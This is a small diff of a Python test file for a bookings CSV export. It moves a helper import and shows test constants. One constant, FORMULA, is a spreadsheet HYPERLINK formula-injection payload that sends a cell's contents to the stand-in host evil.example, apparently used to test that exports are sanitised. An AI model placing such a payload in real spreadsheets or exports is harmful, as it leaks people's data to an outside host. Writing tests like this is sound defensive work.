@@ -15,8 +15,8 @@ from api.routes import session_exports
 from devstack.pay import pay
 from documents.bookings_csv import COLUMNS
 from tests.api.conftest import ADMIN
-from tests.api.helpers import booking_body, wait_for_status
 from tests.conftest import OTHER_ADMIN_KEY, SessionFactory
+from tests.helpers.api_bookings import booking_body, wait_for_status
 
 AWKWARD = 'Zoë "Zed" Ærøskøbing, 李小龙 / Ольга / محمد'
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
